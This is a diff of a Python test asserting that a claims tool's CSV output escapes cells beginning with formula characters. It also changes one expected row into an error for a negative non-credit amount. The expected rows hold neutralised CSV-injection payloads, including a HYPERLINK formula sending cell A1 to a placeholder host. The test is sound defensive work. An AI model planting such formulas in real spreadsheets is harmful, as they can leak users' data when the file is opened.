@@ -493,7 +493,10 @@ def test_csv_output_cells_never_start_a_formula(tmp_path: Path, engine: str) -> 
     assert result.stdout.splitlines() == [
         "claim_id,status,claimed,payable,title,funding,reasons",
         f'"\'=HYPERLINK(""http://x/?""&A1,""y"")",accepted,60.00,60.00,meekijkconsult,production,{FUNDED}',
-        f"'+1+1,accepted,-12.50,-12.50,meekijkconsult,production,{FUNDED}",  # amounts stay numbers
+        # a negative amount that is no credit is an error; the amount still stays a number
+        "'+1+1,error,-12.50,0.00,,,amount: field `amount`: EUR -12.50 is negative but the claim "
+        "is not a credit: a credit line says `credit` true and names the claim it takes back in "
+        "`corrects`",
         f"'@SUM(1),accepted,60.00,60.00,meekijkconsult,production,{FUNDED}",
         f"'-2+3,accepted,60.00,60.00,meekijkconsult,production,{FUNDED}",
         f"-12,accepted,60.00,60.00,meekijkconsult,production,{FUNDED}",  # a plain number
